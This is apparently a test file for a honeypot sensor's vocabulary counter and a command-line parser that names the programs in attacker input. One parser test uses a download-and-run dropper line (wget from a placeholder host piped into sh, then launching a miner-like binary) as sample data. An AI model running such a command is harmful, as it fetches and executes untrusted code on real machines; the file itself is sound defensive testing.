import assert from "node:assert/strict";
import { programsOf, SensorVocabulary } from "../../src/features/sensor-vocabulary";
import { heapKeptBy } from "../support/garbage-collector";

describe("SensorVocabulary", () => {
  it("says how many times a word was seen before", () => {
    const seen = new SensorVocabulary(10);
    assert.deepEqual(["root", "admin", "root", "root"].map((w) => seen.observe(w)), [0, 0, 1, 2]);
    assert.equal(seen.sightings, 4, "repeats count as sightings");
  });

  it("says how many times a word was seen without counting the look, nor keeping the word from being forgotten", () => {
    const seen = new SensorVocabulary(2);
    seen.observe("a");
    seen.observe("a");
    seen.observe("b");
    assert.deepEqual([seen.count("a"), seen.count("a"), seen.count("never")], [2, 2, 0]);
    assert.equal(seen.sightings, 3);
    seen.observe("c");
    assert.equal(seen.count("a"), 0, "looked up last, but seen least recently: forgotten");
  });

  it("forgets the least recently seen word when full, so it is new again", () => {
    const seen = new SensorVocabulary(2);
    seen.observe("a");
    seen.observe("b");
    seen.observe("a"); // b is now the least recently seen
    seen.observe("c");
    assert.equal(seen.size, 2);
    assert.equal(seen.observe("a"), 2);
    assert.equal(seen.observe("b"), 0);
  });

  it("keys a megabyte username by its head, so memory stays bounded", () => {
    const seen = new SensorVocabulary(10, 16);
    const junk = "x".repeat(1_000_000);
    seen.observe(junk);
    assert.equal(seen.observe(`${"x".repeat(16)}different tail`), 1);
  });

  it("keeps no more than its words of the attacker text they were cut from", () => {
    const seen = new SensorVocabulary(1_000);
    const junk = "A".repeat(256 * 1024);
    const kept = heapKeptBy(() => {
      for (let i = 0; i < 200; i++) {
        // Each text its own quarter megabyte; a word is its head, or the program its line runs.
        seen.observe(`${i}${junk}`);
        for (const program of programsOf(`./payload-${i}-with-a-long-name ${junk}`)) seen.observe(program);
      }
    });
    assert.equal(seen.size, 400);
    assert.ok(kept < 5 * 1024 * 1024, `400 words kept ${(kept / 1024 / 1024).toFixed(1)} MB alive`);
  });
});

describe("programsOf", () => {
  it("names the program of every part of a command line", () => {
    assert.deepEqual(programsOf("cd /tmp; wget http://x/a && chmod +x a | sh\n./a -o pool:443"), ["cd", "wget", "chmod", "sh", "./a"]);
    assert.deepEqual(programsOf("   "), []);
  });

  it("reads only the head of a pasted megabyte, and at most 16 parts", () => {
    assert.equal(programsOf("ls;".repeat(1_000_000)).length, 16);
    assert.deepEqual(programsOf(`echo ${"A".repeat(2_000_000)}; reboot`), ["echo"]);
  });
});
